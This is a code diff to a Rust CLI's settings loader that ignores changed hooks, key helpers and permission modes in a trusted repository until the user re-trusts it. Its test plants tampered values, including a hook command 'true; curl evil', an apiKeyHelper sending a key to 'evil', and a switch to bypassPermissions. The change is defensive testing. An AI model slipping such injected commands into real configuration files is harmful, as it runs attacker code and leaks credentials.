@@ -2,13 +2,14 @@
 //! the command line names. Whoever opened a repository may not have read it, so what it would grant itself is left out
 //! until its directory is trusted.
 
+use std::collections::BTreeSet;
 use std::fs::{self, File};
 use std::io::{self, Read};
 use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
 
 use pelton::hooks::{Severity, Source};
-use pelton::settings::{self, Brought, Origin, Settings, Treatment, Watched, untrusted};
+use pelton::settings::{self, Brought, Origin, Power, Settings, Treatment, Watched, untrusted};
 
 use super::env::Env;
 use super::memory::MANAGED_DIR;
@@ -50,6 +51,8 @@ pub(crate) struct Layer {
     pub text: Result<String, String>,
     /// It comes with a directory that nobody has trusted.
     pub is_untrusted: bool,
+    /// It comes with a directory that somebody has trusted: the marks of what they saw.
+    approved: Option<BTreeSet<String>>,
     /// Somebody typed it, or handed it over, for this run: what is wrong with it is an error.
     is_for_this_run: bool,
 }
@@ -63,11 +66,12 @@ impl Layer {
             Err(error) => Err(error),
         };
         let anchor = anchor.map(Path::to_owned);
-        Some(Self { source, name, anchor, text, is_untrusted: false, is_for_this_run: false })
+        Some(Self { source, name, anchor, text, is_untrusted: false, approved: None, is_for_this_run: false })
     }
 
     fn for_this_run(source: Source, name: String, text: String) -> Self {
-        Self { source, name, anchor: None, text: Ok(text), is_untrusted: false, is_for_this_run: true }
+        let (anchor, text, approved) = (None, Ok(text), None);
+        Self { source, name, anchor, text, is_untrusted: false, approved, is_for_this_run: true }
     }
 
     pub fn origin(&self) -> Origin<'_> {
@@ -92,12 +96,32 @@ impl Layer {
         given_up
     }
 
+    fn tell_of_changes(&self, left_out: &[Power]) {
+        if !left_out.is_empty() {
+            let told: Vec<String> = left_out.iter().map(Power::told).collect();
+            tell(&format!(
+                "warning: {} has changed since its directory was trusted, so this is not used until it is trusted again (pelton trust): {}",
+                self.name,
+                told.join("; ")
+            ));
+        }
+    }
+
     /// What it says. What is wrong with it is told, and the rest of it counts; of a file that cannot be read at all
     /// nobody knows what it forbids.
-    fn read(&self) -> Result<Settings, Fail> {
-        let read = match &self.text {
-            Ok(text) => settings::read(text, self.origin()).map_err(|error| error.to_string()),
-            Err(error) => Err(format!("{}: {error}", self.name)),
+    fn read(&self, watched: Watched) -> Result<Settings, Fail> {
+        let read = match (&self.text, &self.approved) {
+            // Somebody can be asked about what they have not seen.
+            (Ok(text), Some(approved)) if watched == Watched::Interactive => {
+                let read = settings::read_approved(text, self.origin(), approved);
+                read.map(|(settings, problems, left_out)| {
+                    self.tell_of_changes(&left_out);
+                    (settings, problems)
+                })
+                .map_err(|error| error.to_string())
+            }
+            (Ok(text), _) => settings::read(text, self.origin()).map_err(|error| error.to_string()),
+            (Err(error), _) => Err(format!("{}: {error}", self.name)),
         };
         match read {
             Ok((settings, problems)) => {
@@ -127,7 +151,7 @@ impl Layer {
 fn together(layers: &[Layer], watched: Watched, bare: bool) -> Result<Settings, Fail> {
     let mut all = Settings::default();
     for layer in layers {
-        let mut settings = layer.read()?;
+        let mut settings = layer.read(watched)?;
         let given_up = layer.leave_out(&mut settings, watched, bare);
         if !given_up.is_empty() && untrusted(Brought::Grants, watched) == Treatment::LeftWithWarning {
             tell(&format!(
@@ -196,19 +220,20 @@ fn said(args: &RunArgs, env: &Env, cwd: &Path) -> Result<Vec<Layer>, Fail> {
     if let (true, Some(file)) = (sources.user, &files.user) {
         layers.extend(Layer::in_file(Source::User, file, file.parent()));
     }
-    let trusted = || Trust::in_dir(env, cwd).is_given();
+    // Of what comes with a directory counts what somebody has seen who trusts it.
+    let judged = |mut layer: Layer| {
+        let trust = Trust::in_dir(env, cwd);
+        layer.is_untrusted = !trust.is_given();
+        layer.approved = trust.is_given().then(|| trust.approved_settings(env));
+        layer
+    };
     // In the home directory the project's file is the user's.
     if sources.project && !is_same(&files.project, files.user.as_deref()) {
-        layers.extend(Layer::in_file(Source::Project, &files.project, None).map(|mut layer| {
-            layer.is_untrusted = !trusted();
-            layer
-        }));
+        layers.extend(Layer::in_file(Source::Project, &files.project, None).map(judged));
     }
     if sources.local {
-        layers.extend(Layer::in_file(Source::Local, &files.local, None).map(|mut layer| {
-            layer.is_untrusted = files.local_came_along() && !trusted();
-            layer
-        }));
+        let local = Layer::in_file(Source::Local, &files.local, None);
+        layers.extend(local.map(|layer| if files.local_came_along() { judged(layer) } else { layer }));
     }
     if let Some(said) = args.settings.as_deref().filter(|said| !said.trim().is_empty()) {
         let (name, text) = said_in_json("--settings", said, cwd, SETTINGS_BYTES_MAX)?;
@@ -248,11 +273,21 @@ impl Files {
 
     /// What a directory would add, if it were trusted.
     pub(super) fn brought(&self) -> Settings {
+        together(&self.brought_layers(), Watched::Interactive, false).unwrap_or_default()
+    }
+
+    /// What of that grants or runs something.
+    pub(super) fn brought_powers(&self) -> Vec<Power> {
+        let layers = self.brought_layers();
+        let texts = layers.iter().filter_map(|layer| Some((layer.text.as_ref().ok()?, layer.origin())));
+        texts.flat_map(|(text, origin)| settings::powers(text, origin)).collect()
+    }
+
+    fn brought_layers(&self) -> Vec<Layer> {
         let is_users = is_same(&self.project, self.user.as_deref());
         let project = Layer::in_file(Source::Project, &self.project, None).filter(|_| !is_users);
         let local = Layer::in_file(Source::Local, &self.local, None).filter(|_| self.local_came_along());
-        let brought: Vec<Layer> = project.into_iter().chain(local).collect();
-        together(&brought, Watched::Interactive, false).unwrap_or_default()
+        project.into_iter().chain(local).collect()
     }
 }
 
@@ -349,6 +384,7 @@ mod tests {
 
     use clap::Parser;
 
+    use super::super::trust::state_file;
     use super::*;
     use crate::args::Args;
 
@@ -428,6 +464,38 @@ mod tests {
         for switch in [&["--bare"][..], &["--setting-sources", "user"]] {
             assert_eq!(counts(&env, &work, Watched::Unattended, switch)[3..], [false; 3], "{switch:?}");
         }
+    }
+
+    #[test]
+    fn pit_P6_one_changed_entry_of_a_trusted_directory_is_asked_about_again_and_the_others_count() {
+        let (_dir, env, work) = place();
+        Trust::in_dir(&env, &work).say(&env, true).unwrap();
+        assert_eq!(counts(&env, &work, Watched::Interactive, &[]), [true; 6]);
+        let file = work.join(".claude/settings.json");
+        let seen = fs::read_to_string(&file).unwrap();
+        for (before, after, left) in [
+            (r#""command": "true""#, r#""command": "true; curl evil""#, 5),
+            (r#""apiKeyHelper": "key""#, r#""apiKeyHelper": "key --to evil""#, 4),
+            (r#"{"A": "b"}"#, r#"{"A": "c"}"#, 3),
+            ("acceptEdits", "bypassPermissions", 2),
+        ] {
+            fs::write(&file, seen.replace(before, after)).unwrap();
+            let mut expected = [true; 6];
+            expected[left] = false;
+            assert_eq!(counts(&env, &work, Watched::Interactive, &[]), expected, "{after}");
+            // Where nobody can be asked, trust in the directory is all there is.
+            assert_eq!(counts(&env, &work, Watched::Unattended, &[]), [true; 6], "{after}");
+            assert_eq!(Trust::in_dir(&env, &work).new_settings(&env).len(), 1, "{after}");
+            Trust::in_dir(&env, &work).say(&env, true).unwrap();
+            assert_eq!(counts(&env, &work, Watched::Interactive, &[]), [true; 6], "{after}");
+            fs::write(&file, &seen).unwrap();
+            Trust::in_dir(&env, &work).say(&env, true).unwrap();
+        }
+        // Another program has asked, and nobody knows what was seen then.
+        let state = state_file(&env).unwrap();
+        let said = serde_json::json!({"projects": {work.to_str().unwrap(): {"hasTrustDialogAccepted": true}}});
+        fs::write(state, said.to_string()).unwrap();
+        assert_eq!(counts(&env, &work, Watched::Interactive, &[]), [true, false, false, false, false, false]);
     }
 
     #[test]
